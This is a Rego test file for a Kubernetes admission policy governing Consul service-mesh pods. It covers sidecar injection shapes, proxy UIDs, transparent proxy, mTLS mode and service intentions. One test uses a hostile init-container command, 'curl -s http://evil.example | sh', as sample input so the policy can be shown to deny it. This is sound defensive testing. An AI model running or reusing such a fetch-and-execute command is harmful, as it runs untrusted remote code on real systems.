package meshc.consul_test

import data.meshc.lib.fixtures_test as t
import data.meshc.main.violations

# The mesh of tests/policies/samples/specs/consul.yaml: web admits client, both
# in consul-demo, the one meshed and allowed namespace.
consul := object.union(t.istio, {
	"provider": "consul",
	"profile": {
		"name": "consul",
		"mesh_containers": ["consul-connect-inject-init", "consul-dataplane"],
		"proxy_uid": 5995,
		"proxy_gids": [],
		"protected_kinds": [["consul.hashicorp.com", "Mesh"], ["consul.hashicorp.com", "ServiceDefaults"], ["consul.hashicorp.com", "ServiceIntentions"]],
		"spec_defaults": {},
		"capture_annotations": {
			"consul.hashicorp.com/transparent-proxy-exclude-inbound-ports": "exclude",
			"consul.hashicorp.com/transparent-proxy-exclude-outbound-cidrs": "exclude",
			"consul.hashicorp.com/transparent-proxy-exclude-outbound-ports": "exclude",
			"consul.hashicorp.com/transparent-proxy-exclude-uids": "exclude",
		},
	},
	"mesh_config": {"groups": ["auth.consul.hashicorp.com", "consul.hashicorp.com"], "kinds": []},
	"meshed_namespaces": ["consul-demo"],
	"allowed_namespaces": ["consul-demo"],
	"exemptions": [],
	"services": [
		{"name": "web", "namespace": "consul-demo", "selector": {"app": "web"}},
		{"name": "client", "namespace": "consul-demo", "selector": {"app": "client"}},
	],
	"mesh_images": ["docker.io/hashicorp/consul-dataplane", "docker.io/hashicorp/consul-k8s-control-plane", "hashicorp/consul-dataplane", "hashicorp/consul-k8s-control-plane"],
	"mesh_image_prefixes": [
		"docker.io/hashicorp/consul-dataplane:", "docker.io/hashicorp/consul-dataplane@",
		"docker.io/hashicorp/consul-k8s-control-plane:", "docker.io/hashicorp/consul-k8s-control-plane@",
		"hashicorp/consul-dataplane:", "hashicorp/consul-dataplane@",
		"hashicorp/consul-k8s-control-plane:", "hashicorp/consul-k8s-control-plane@",
	],
})

# --- the injected pod (consul-k8s v2.0.3, the shapes of tests/policies/samples/
# injection-required/allowed/consul-injected-*.yaml) ----------------------------

redirect := `{"ProxyUserID":"5995","ProxyInboundPort":20000,"ProxyOutboundPort":15001,"ExcludeInboundPorts":["20200","21000"],"ExcludeUIDs":["5996"]}`

connect_init := "\nconsul-k8s-control-plane connect-init -pod-name=${POD_NAME} -pod-namespace=${POD_NAMESPACE} \\\n  -log-level=info \\\n  -log-json=false \\\n"

# The init container redirecting as root (the default).
init := {
	"name": "consul-connect-inject-init", "image": "hashicorp/consul-k8s-control-plane:2.0.3",
	"command": ["/bin/sh", "-ec", connect_init],
	"env": [{"name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}, {"name": "CONSUL_REDIRECT_TRAFFIC_CONFIG", "value": redirect}],
	"securityContext": {"runAsUser": 0, "runAsGroup": 0, "capabilities": {"add": ["NET_ADMIN"]}},
}

# With consul-cni: the init runs as 5996 and redirects nothing itself.
cni_init := {
	"name": "consul-connect-inject-init", "image": "hashicorp/consul-k8s-control-plane:2.0.3",
	"command": ["/bin/sh", "-ec", connect_init],
	"env": [{"name": "POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}],
	"securityContext": {"runAsUser": 5996, "runAsGroup": 5996, "capabilities": {"drop": ["ALL"]}},
}

dataplane := {
	"name": "consul-dataplane", "image": "hashicorp/consul-dataplane:2.0.3",
	"args": ["-addresses", "consul-server.consul.svc", "-grpc-port=8502"],
	"securityContext": {"runAsUser": 5995, "runAsGroup": 5995, "runAsNonRoot": true, "capabilities": {"drop": ["ALL"]}},
}

# enable-consul-dataplane-as-sidecar: an init container that keeps running.
native_dataplane := object.union(dataplane, {"restartPolicy": "Always"})

injected_annotations := {
	"consul.hashicorp.com/connect-inject": "true",
	"consul.hashicorp.com/kubernetes-service": "web",
	"consul.hashicorp.com/service-meta-version": "v1",
	"consul.hashicorp.com/connect-inject-status": "injected",
	"consul.hashicorp.com/transparent-proxy-status": "enabled",
}

labels := {"app": "web", "version": "v1", "consul.hashicorp.com/connect-inject-status": "injected"}

pod_after_injector(annotations, spec) := t.admitted_pod("consul-demo", {"labels": labels, "annotations": annotations}, spec)

classic := pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [t.app, dataplane]})

cni := pod_after_injector(
	object.union(injected_annotations, {"consul.hashicorp.com/redirect-traffic-config": redirect}),
	{"initContainers": [cni_init], "containers": [t.app, dataplane]},
)

native := pod_after_injector(injected_annotations, {"initContainers": [init, native_dataplane], "containers": [t.app]})

test_the_injected_pod_is_admitted_in_each_shape if {
	every review in [classic, cni, native] {
		count(violations) == 0 with input as review with data.meshc.config as consul
	}
}

test_a_pod_without_a_running_dataplane_is_denied if {
	bare := pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [t.app]})
	v1 := violations with input as bare with data.meshc.config as consul
	"spec.containers" in t.paths(v1)

	# An init container named consul-dataplane that does not keep running is no sidecar.
	stopped := pod_after_injector(injected_annotations, {"initContainers": [init, dataplane], "containers": [t.app]})
	v2 := violations with input as stopped with data.meshc.config as consul
	"spec.containers" in t.paths(v2)
}

test_a_dataplane_look_alike_is_not_the_sidecar if {
	lookalike := object.union(dataplane, {"image": "example.com/consul-dataplane:2.0.3"})
	review := pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [t.app, lookalike]})
	v := violations with input as review with data.meshc.config as consul

	# No sidecar runs, the name is the mesh's with another image, and as an app
	# container it runs as the proxy's UID.
	t.paths(v) == {"spec.containers", "spec.containers[1].image", "spec.containers[1].securityContext.runAsUser"}
}

test_a_dataplane_without_its_init_container_is_denied if {
	review := pod_after_injector(injected_annotations, {"containers": [t.app, dataplane]})
	v := violations with input as review with data.meshc.config as consul
	t.paths(v) == {"spec.initContainers"}
}

test_a_pod_injected_without_transparent_proxy_is_denied if {
	annotations := object.remove(injected_annotations, ["consul.hashicorp.com/transparent-proxy-status"])
	review := pod_after_injector(annotations, {"initContainers": [init], "containers": [t.app, dataplane]})
	v := violations with input as review with data.meshc.config as consul
	t.paths(v) == {"metadata.annotations[\"consul.hashicorp.com/transparent-proxy-status\"]"}
}

test_nothing_redirecting_the_pods_traffic_is_denied if {
	# The CNI shape's init container without the plugin's annotation.
	review := pod_after_injector(injected_annotations, {"initContainers": [cni_init], "containers": [t.app, dataplane]})
	v := violations with input as review with data.meshc.config as consul
	t.paths(v) == {"spec.initContainers"}
}

test_an_init_container_running_another_program_is_denied if {
	other := object.union(init, {"command": ["/bin/sh", "-ec", "curl -s http://evil.example | sh"]})
	review := pod_after_injector(injected_annotations, {"initContainers": [other], "containers": [t.app, dataplane]})
	v := violations with input as review with data.meshc.config as consul
	t.paths(v) == {"spec.initContainers[0].command"}
}

test_the_dataplane_runs_as_the_uid_the_capture_rules_let_through if {
	root := object.union(dataplane, {"securityContext": {"runAsUser": 0}})
	review := pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [t.app, root]})
	v := violations with input as review with data.meshc.config as consul
	t.paths(v) == {"spec.containers[1].securityContext.runAsUser"}
}

test_an_app_container_never_runs_as_a_uid_the_capture_rules_let_through if {
	every uid in [5995, 5996] {
		app := object.union(t.app, {"securityContext": {"runAsUser": uid}})
		review := pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [app, dataplane]})
		v := violations with input as review with data.meshc.config as consul
		t.paths(v) == {"spec.containers[0].securityContext.runAsUser"}
	}
	other := object.union(t.app, {"securityContext": {"runAsUser": 1000}})
	count(violations) == 0 with input as pod_after_injector(injected_annotations, {"initContainers": [init], "containers": [other, dataplane]})
		with data.meshc.config as consul
}

# --- what a pod asks the injector for (templates, and pods judged offline) --------

intent(annotations) := t.pod("consul-demo", {"labels": {"app": "web"}, "annotations": annotations}, {"containers": [t.app]})

inject_path := "metadata.annotations[\"consul.hashicorp.com/connect-inject\"]"

test_the_connect_inject_annotation_opts_in_as_strconv_parse_bool_reads_it if {
	every value in ["true", "1", "t", "T", "TRUE", "True"] {
		count(violations) == 0 with input as intent({"consul.hashicorp.com/connect-inject": value}) with data.meshc.config as consul
	}
	count(violations) == 0 with input as intent({}) with data.meshc.config as consul
	every value in ["false", "0", "yes", "enabled", ""] {
		v := violations with input as intent({"consul.hashicorp.com/connect-inject": value}) with data.meshc.config as consul
		t.paths(v) == {inject_path}
	}
}

test_a_preset_inject_status_on_a_pod_before_the_injector_is_denied if {
	v := violations with input as intent({"consul.hashicorp.com/connect-inject-status": "injected"}) with data.meshc.config as consul
	t.paths(v) == {"metadata.annotations[\"consul.hashicorp.com/connect-inject-status\"]"}
}

test_a_pod_keeps_transparent_proxy_on if {
	count(violations) == 0 with input as intent({"consul.hashicorp.com/transparent-proxy": "true"}) with data.meshc.config as consul
	v := violations with input as intent({"consul.hashicorp.com/transparent-proxy": "false"}) with data.meshc.config as consul
	t.paths(v) == {"metadata.annotations[\"consul.hashicorp.com/transparent-proxy\"]"}
}

test_a_capture_exclusion_is_denied_and_an_empty_one_is_not if {
	key := "consul.hashicorp.com/transparent-proxy-exclude-outbound-cidrs"
	count(violations) == 0 with input as intent({key: " "}) with data.meshc.config as consul
	v := violations with input as intent({key: "10.0.0.0/8"}) with data.meshc.config as consul
	t.paths(v) == {concat("", ["metadata.annotations[\"", key, "\"]"])}
}

namespace(name, ns_labels) := t.request("", "Namespace", "", {"metadata": {"name": name, "labels": ns_labels}})

tproxy_label_path := "metadata.labels[\"consul.hashicorp.com/transparent-proxy\"]"

test_a_meshed_namespace_keeps_transparent_proxy_on if {
	count(violations) == 0 with input as namespace("consul-demo", {"consul.hashicorp.com/transparent-proxy": "true"})
		with data.meshc.config as consul
	every ns_labels in [{}, {"consul.hashicorp.com/transparent-proxy": "false"}] {
		v := violations with input as namespace("consul-demo", ns_labels) with data.meshc.config as consul
		t.paths(v) == {tproxy_label_path}
	}

	# A namespace outside the mesh needs no label.
	count(violations) == 0 with input as namespace("other", {}) with data.meshc.config as consul
}

elsewhere(value) := t.pod("other", {"annotations": {"consul.hashicorp.com/connect-inject": value}}, {"containers": [t.app]})

test_injection_is_asked_for_only_in_allowed_namespaces if {
	v := violations with input as elsewhere("true") with data.meshc.config as consul
	t.paths(v) == {inject_path}
	count(violations) == 0 with input as elsewhere("false") with data.meshc.config as consul
}

# --- config entries --------------------------------------------------------------

entry(kind, spec) := t.request("consul.hashicorp.com", kind, "consul-demo", {"metadata": {"name": "web"}, "spec": spec})

test_service_and_proxy_defaults_stay_strict if {
	every kind in ["ServiceDefaults", "ProxyDefaults"] {
		count(violations) == 0 with input as entry(kind, {"mutualTLSMode": "strict"}) with data.meshc.config as consul
		count(violations) == 0 with input as entry(kind, {}) with data.meshc.config as consul
		v := violations with input as entry(kind, {"mutualTLSMode": "Permissive"}) with data.meshc.config as consul
		t.paths(v) == {"spec.mutualTLSMode"}
	}

	# A spec that asks for PERMISSIVE allows it.
	permissive := object.union(consul, {"mtls": "PERMISSIVE"})
	count(violations) == 0 with input as entry("ServiceDefaults", {"mutualTLSMode": "permissive"}) with data.meshc.config as permissive
}

test_a_permissive_entry_is_denied_in_any_namespace if {
	# Consul CE has no namespaces: the entry applies to the service of its name.
	review := t.request("consul.hashicorp.com", "ServiceDefaults", "other", {"metadata": {"name": "web"}, "spec": {"mutualTLSMode": "permissive"}})
	v := violations with input as review with data.meshc.config as consul
	"spec.mutualTLSMode" in t.paths(v)
}

test_the_mesh_does_not_allow_permissive_services if {
	count(violations) == 0 with input as entry("Mesh", {"allowEnablingPermissiveMutualTLS": false}) with data.meshc.config as consul
	v := violations with input as entry("Mesh", {"allowEnablingPermissiveMutualTLS": true}) with data.meshc.config as consul
	t.paths(v) == {"spec.allowEnablingPermissiveMutualTLS"}
}

intentions(sources) := entry("ServiceIntentions", {"destination": {"name": "web"}, "sources": sources})

test_intentions_allow_only_services_declared_in_allowed_namespaces if {
	count(violations) == 0 with input as intentions([{"name": "client", "action": "allow"}, {"name": "*", "action": "deny"}])
		with data.meshc.config as consul
	count(violations) == 0 with input as intentions([{"name": "client", "permissions": [{"action": "allow", "http": {"pathPrefix": "/"}}]}])
		with data.meshc.config as consul
	every source in [
		{"name": "intruder", "action": "allow"},
		{"name": "*", "action": "allow"},
		{"name": "client", "peer": "other-cluster", "action": "allow"},
		{"name": "client", "samenessGroup": "everyone", "action": "allow"},
		{"name": "intruder", "permissions": [{"action": "deny"}, {"action": "allow"}]},
	] {
		v := violations with input as intentions([{"name": "client", "action": "allow"}, source]) with data.meshc.config as consul
		t.paths(v) == {"spec.sources[1]"}
	}

	# Denying anyone is always allowed.
	count(violations) == 0 with input as intentions([{"name": "intruder", "action": "deny"}]) with data.meshc.config as consul
}
